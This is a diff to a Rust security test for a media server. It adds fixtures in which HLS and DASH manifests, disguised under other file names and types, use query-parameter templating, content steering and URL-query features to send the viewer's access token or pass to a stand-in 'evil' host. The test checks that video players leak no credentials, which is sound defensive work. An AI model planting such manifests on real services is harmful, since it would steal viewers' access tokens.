@@ -12,7 +12,7 @@ use std::time::Instant;
 
 use lectern::credential::binding::Binding as Seen;
 use lectern::credential::claims::Purpose;
-use lectern::credential::pass;
+use lectern::credential::pass::{self, PassKind};
 use lectern::object::key::ObjectKey;
 use serde_json::{Value, json};
 
@@ -503,6 +503,60 @@ impl Stage {
         .any(|text| !self.credentials(text).is_empty())
     }
 
+    /// Opens links in players of a foreign page, each by a name. Returns the requests to other hosts by that name, and how
+    /// many requests each player sent to the edge and to others.
+    fn play(
+        &self,
+        plays: &[(String, Value)],
+    ) -> (Vec<(String, String)>, BTreeMap<String, (usize, usize)>) {
+        let mut node = Command::new(built("node_modules/node/bin/node"))
+            .arg(root().join("tests/browser/hostile.mjs"))
+            .stdin(Stdio::piped())
+            .stdout(Stdio::piped())
+            .spawn()
+            .expect("node starts");
+        let question: Vec<&Value> = plays.iter().map(|(_, play)| play).collect();
+        let question = serde_json::to_vec(&question).expect("JSON");
+        node.stdin
+            .take()
+            .expect("a pipe")
+            .write_all(&question)
+            .expect("written");
+        let output = node.wait_with_output().expect("an answer");
+        assert!(output.status.success(), "{}", self.edge.log());
+        let played: Vec<Value> = serde_json::from_slice(&output.stdout).expect("JSON");
+        assert_eq!(played.len(), plays.len());
+
+        let mut sent = Vec::new();
+        let mut asked: BTreeMap<String, (usize, usize)> = BTreeMap::new();
+        for ((name, _), play) in plays.iter().zip(&played) {
+            let requests = play["requests"].as_array().expect("a list");
+            let url = |request: &Value| request["url"].as_str().unwrap_or_default().to_owned();
+            let (own, foreign): (Vec<_>, Vec<_>) = requests
+                .iter()
+                .partition(|request| url(request).starts_with(&format!("{}/", self.edge.origin)));
+            // Each has opened what it was given, or nothing was tried.
+            let opened = own
+                .iter()
+                .any(|request| url(request).contains("/uploads/u1/"));
+            assert!(
+                opened,
+                "{name} opened nothing: {play:#}\n{}",
+                self.edge.log()
+            );
+            let player = play["player"].as_str().unwrap_or_default();
+            let counts = asked.entry(player.to_owned()).or_default();
+            counts.0 += own.len();
+            counts.1 += foreign.len();
+            sent.extend(
+                foreign
+                    .iter()
+                    .map(|request| (name.clone(), request.to_string())),
+            );
+        }
+        (sent, asked)
+    }
+
     /// Judges everything that went to another host.
     fn judge(&self, sent: impl IntoIterator<Item = (String, String)>) -> Vec<String> {
         sent.into_iter()
@@ -548,51 +602,7 @@ fn no_player_shows_another_host_what_the_edge_gave_its_viewer() {
         }
     }
     let began = Instant::now();
-    let mut node = Command::new(built("node_modules/node/bin/node"))
-        .arg(root().join("tests/browser/hostile.mjs"))
-        .stdin(Stdio::piped())
-        .stdout(Stdio::piped())
-        .spawn()
-        .expect("node starts");
-    let question: Vec<&Value> = plays.iter().map(|(_, play)| play).collect();
-    let question = serde_json::to_vec(&question).expect("JSON");
-    node.stdin
-        .take()
-        .expect("a pipe")
-        .write_all(&question)
-        .expect("written");
-    let output = node.wait_with_output().expect("an answer");
-    assert!(output.status.success(), "{}", stage.edge.log());
-    let played: Vec<Value> = serde_json::from_slice(&output.stdout).expect("JSON");
-    assert_eq!(played.len(), plays.len());
-
-    let mut sent = Vec::new();
-    let mut asked: BTreeMap<&str, (usize, usize)> = BTreeMap::new();
-    for ((name, _), play) in plays.iter().zip(&played) {
-        let requests = play["requests"].as_array().expect("a list");
-        let url = |request: &Value| request["url"].as_str().unwrap_or_default().to_owned();
-        let (own, foreign): (Vec<_>, Vec<_>) = requests
-            .iter()
-            .partition(|request| url(request).starts_with(&format!("{}/", stage.edge.origin)));
-        // Each has opened what it was given, or nothing was tried.
-        let opened = own
-            .iter()
-            .any(|request| url(request).contains("/uploads/u1/"));
-        assert!(
-            opened,
-            "{name} opened nothing: {play:#}\n{}",
-            stage.edge.log()
-        );
-        let player = play["player"].as_str().unwrap_or_default();
-        let counts = asked.entry(player).or_default();
-        counts.0 += own.len();
-        counts.1 += foreign.len();
-        sent.extend(
-            foreign
-                .iter()
-                .map(|request| (name.clone(), request.to_string())),
-        );
-    }
+    let (sent, asked) = stage.play(&plays);
     let foreign = stage.foreign.seen();
     let _ = writeln!(
         std::io::stderr(),
@@ -619,6 +629,127 @@ fn no_player_shows_another_host_what_the_edge_gave_its_viewer() {
     // The page's policy lets nothing out; the others ask whom they are told to.
     for player in ["hlsjs", "shaka"] {
         assert!(asked[player].1 >= 10, "{asked:?}");
+    }
+}
+
+/// Manifests under names of other objects. Each sends what stands in its own URL to another host, in the way that its format
+/// has for that.
+fn misnamed(place: &Place<'_>) -> Vec<Case> {
+    let evil = place.evil;
+    let hls = |variables: &str, query: &str| {
+        format!(
+            "#EXTM3U\n{variables}#EXT-X-CONTENT-STEERING:SERVER-URI=\"steer.json\",PATHWAY-ID=\".\"\n\
+             #EXT-X-STREAM-INF:BANDWIDTH=900,CODECS=\"avc1.64001e\"\n{evil}/x.m3u8?{query}\n\
+             #EXT-X-STREAM-INF:BANDWIDTH=800,CODECS=\"avc1.64001e\",PATHWAY-ID=\".\"\ns.m3u8\n"
+        )
+    };
+    let token = hls("#EXT-X-DEFINE:QUERYPARAM=\"token\"\n", "t={$token}");
+    let pass = hls("#EXT-X-DEFINE:QUERYPARAM=\"p\"\n", "t={$p}");
+    let plain = hls("", "");
+    let property = "<SupplementalProperty schemeIdUri=\"urn:mpeg:dash:urlparam:2014\"><UrlQueryInfo \
+        xmlns=\"urn:mpeg:dash:schema:urlparam:2014\" queryTemplate=\"$querypart$\" useMPDUrlQuery=\"true\"/>\
+        </SupplementalProperty>";
+    let dash = format!(
+        "<?xml version=\"1.0\"?>\n<MPD xmlns=\"urn:mpeg:dash:schema:mpd:2011\" type=\"static\" \
+         mediaPresentationDuration=\"PT8S\" minBufferTime=\"PT2S\" \
+         profiles=\"urn:mpeg:dash:profile:isoff-live:2011\">{property}<Period><BaseURL>{evil}/</BaseURL>\
+         <AdaptationSet mimeType=\"video/mp4\" contentType=\"video\">{property}\
+         <SegmentTemplate media=\"s$Number$.m4s\" initialization=\"i.mp4\" duration=\"4\" startNumber=\"1\"/>\
+         <Representation id=\"1\" bandwidth=\"1000\" codecs=\"avc1.64001e\" width=\"640\" height=\"360\"/>\
+         </AdaptationSet></Period></MPD>"
+    );
+    let mut cases = Vec::new();
+    for (file, kind) in [
+        ("x.mp4", "video/mp4"),
+        ("x.jpg", "image/jpeg"),
+        ("x.txt", "text/plain; charset=utf-8"),
+        ("x.ts", "video/mp2t"),
+        ("x.json", "application/json"),
+        ("x.vtt", "text/vtt"),
+        ("x", "application/octet-stream"),
+        ("x.unknown", "text/html"),
+        ("x.mp4", HLS),
+        ("x.txt", "application/dash+xml"),
+        ("x", "application/dash+xml"),
+    ] {
+        for (what, text) in [
+            ("the link", &token),
+            ("the pass", &pass),
+            ("steering", &plain),
+            ("DASH", &dash),
+        ] {
+            cases.push(
+                Case {
+                    name: format!("{what} by {file} as {kind}"),
+                    files: vec![(file.to_owned(), kind.to_owned(), text.clone().into_bytes())],
+                }
+                .with("s.m3u8", HLS, media(""))
+                .with("steer.json", "application/json", steering()),
+            );
+        }
+    }
+    cases
+}
+
+#[test]
+fn no_player_shows_another_host_the_link_to_a_manifest_under_another_name() {
+    let stage = Stage::new(misnamed);
+    let mut plays = Vec::new();
+    for (name, path) in &stage.opened {
+        for (player, shape) in [
+            ("hlsjs", ""),
+            ("hlsjs", "&as=directory"),
+            ("shaka", ""),
+            ("dashjs", ""),
+            ("dashjs", "&as=directory"),
+            ("native", ""),
+        ] {
+            // Each player is given the manifests that it reads.
+            let reads_dash = ["dashjs", "shaka"].contains(&player);
+            let reads_hls = player != "dashjs";
+            if !(if name.starts_with("DASH") {
+                reads_dash
+            } else {
+                reads_hls
+            }) {
+                continue;
+            }
+            let name = format!("{player}{shape}: {name}");
+            let link = stage.link(&name, path, &json!({})) + shape;
+            plays.push((name, json!({ "player": player, "link": link })));
+        }
+    }
+    let (sent, asked) = stage.play(&plays);
+    let _ = writeln!(
+        std::io::stderr(),
+        "{} links to manifests under other names; requests to the edge and to others: {asked:?}",
+        plays.len()
+    );
+    // A pass of the object itself opens for another host what its uploader wrote.
+    let opens_own_alone = |credential: &str| {
+        pass::decode(credential).is_ok_and(|pass| pass.kind == PassKind::Object)
+            && stage.opened.iter().any(|(_, path)| {
+                let url = format!("{path}?p={credential}");
+                stage.edge.send("GET", &url, &[], b"").status == 200
+            })
+    };
+    let failed: Vec<String> = sent
+        .iter()
+        .filter(|(_, sent)| {
+            let mut credentials = stage.credentials(sent);
+            credentials.retain(|credential| !opens_own_alone(credential));
+            !credentials.is_empty()
+        })
+        .map(|(name, sent)| format!("{name}: {sent}"))
+        .collect();
+    assert!(
+        failed.is_empty(),
+        "{} requests:\n{}",
+        failed.len(),
+        failed.join("\n")
+    );
+    for player in ["hlsjs", "dashjs"] {
+        assert!(asked[player].1 >= 5, "{asked:?}");
     }
 }
 
